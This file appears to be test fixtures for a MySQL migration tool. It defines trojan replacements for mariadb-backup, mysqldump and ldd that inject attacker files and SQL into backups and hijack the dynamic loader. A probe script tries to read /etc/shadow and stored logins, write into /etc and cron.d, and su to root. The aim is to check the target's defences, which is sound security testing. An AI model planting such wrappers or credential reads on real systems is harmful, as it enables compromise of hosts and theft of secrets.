# Copyright (c) 2026 The nordbridge.mysql_migration contributors
# GNU General Public License v3.0-or-later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Programs of an attacker who is root on the source: what they put into the streams that the target asks for."""

from __future__ import annotations

import base64
import subprocess
import tempfile
from pathlib import Path

#: Stands where mariadb-backup was. The real one's stream goes through it, chunk by chunk (storage of the format: extra/mariabackup/xbstream.h).
BACKUP = r'''#!/usr/bin/python3
import json, os, struct, subprocess, sys, zlib
REAL = "/usr/bin/mariadb-backup.real"
if "--backup" not in sys.argv:
    os.execv(REAL, sys.argv)
ADDED = json.load(open("/usr/local/added.json"))
process = subprocess.Popen([REAL] + sys.argv[1:], stdout=subprocess.PIPE, close_fds=False)
out = sys.stdout.buffer
MAGIC = b"XBSTCK01"
def head(kind, path):
    return MAGIC + b"\0" + kind + struct.pack("<I", len(path)) + path
def put(path, data):
    out.write(head(b"P", path) + struct.pack("<QQI", len(data), 0, zlib.crc32(data)) + data + head(b"E", path))
def take(number):
    data = process.stdout.read(number)
    if len(data) != number:
        sys.exit("the stream of the real program is cut off")
    return data
while True:
    start = process.stdout.read(14)
    if not start:
        break
    kind, path = start[9:10], take(struct.unpack("<I", start[10:14])[0])
    body = b""
    if kind == b"P":
        body = take(20)
        body += take(struct.unpack("<Q", body[:8])[0])
    elif kind != b"E":
        sys.exit("a kind of chunk that is not known: %r" % kind)
    if path.decode() not in ADDED:
        out.write(start + path + body)
for name, text in ADDED.items():
    put(name.encode("utf-8", "surrogateescape"), __import__("base64").b64decode(text))
out.flush()
sys.exit(process.wait())
'''

#: Stands where the dump program was: the real one's text, with lines of the attacker's own behind the head.
DUMP = r"""#!/usr/bin/python3
import os, subprocess, sys
REAL = sys.argv[0] + ".real"
if "--databases" not in sys.argv:
    os.execv(REAL, sys.argv)
process = subprocess.Popen([REAL] + sys.argv[1:], stdout=subprocess.PIPE, close_fds=False)
out, added = sys.stdout.buffer, open("/usr/local/added.sql", "rb").read()
for line in process.stdout:
    if line.startswith(b"-- Dump completed"):
        out.write(added)
    out.write(line)
out.flush()
sys.exit(process.wait())
"""

#: Stands where ldd was: the loader that it names is the attacker's.
LDD = r"""#!/bin/sh
/usr/bin/ldd.real "$@" | sed 's,^\(\s*\)/lib.*/ld-linux[^ ]*,\1/usr/local/loader,'
"""

#: The loader, which the target runs with the programs: it tries what it could gain, and says what it got.
LOADER = r"""#!/bin/sh
case "$*" in *--version*) echo 10.5.23-MariaDB; exit 0;; esac
case "$*" in *--prepare*) ;; *) exit 0;; esac
for word in "$@"; do case "$word" in --target-dir=*) new=${word#--target-dir=};; esac; done
got="uid=$(id -u) "
for place in /etc /usr/bin /root /var/lib/mysql_migration /var/lib/mysql_migration_programs /etc/cron.d; do
    if (: >"$place/evil") 2>/dev/null; then got="$got wrote:$place"; fi
done
for place in OUTSIDE; do
    if (: >"$place/evil") 2>/dev/null; then got="$got wrote:$place"; fi
done
if python3 -c 'import socket; socket.create_connection(("SOURCE-ADDRESS", 22), 3)' 2>/dev/null; then got="$got connected"; fi
if python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM)' 2>/dev/null; then got="$got socket"; fi
if cat /etc/shadow >/dev/null 2>&1; then got="$got shadow"; fi
if cat /var/lib/mysql_migration/*/source.json >/dev/null 2>&1; then got="$got login"; fi
if su -s /bin/sh root -c true </dev/null 2>/dev/null; then got="$got root"; fi
ACT
echo "GOT $got END"
exit CODE
"""

#: A library that leaves a trace of whoever loads it.
LIBRARY = r"""
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void load(void) {
    char path[64];
    snprintf(path, sizeof path, "/var/tmp/evil-%d", (int)getuid());
    close(open(path, O_CREAT | O_WRONLY, 0600));
}
"""


def library() -> bytes:
    """The library, compiled on this machine."""
    with tempfile.TemporaryDirectory() as folder:
        source, made = Path(folder, "evil.c"), Path(folder, "evil.so")
        source.write_text(LIBRARY)
        subprocess.run(["cc", "-shared", "-fPIC", "-o", str(made), str(source)], check=True)
        return made.read_bytes()


def install(pair, host: str, path: str, text: str) -> None:
    """Put a program in the place of another, which is kept beside it."""
    packed = base64.b64encode(text.encode()).decode()
    pair.sh(host, f"[ -e {path}.real ] || mv {path} {path}.real; echo {packed} | base64 -d >{path}; chmod 755 {path}")


def put_back(pair, host: str, *paths: str) -> None:
    """The programs as they were."""
    for path in paths:
        pair.sh(host, f"[ ! -e {path}.real ] || mv -f {path}.real {path}")
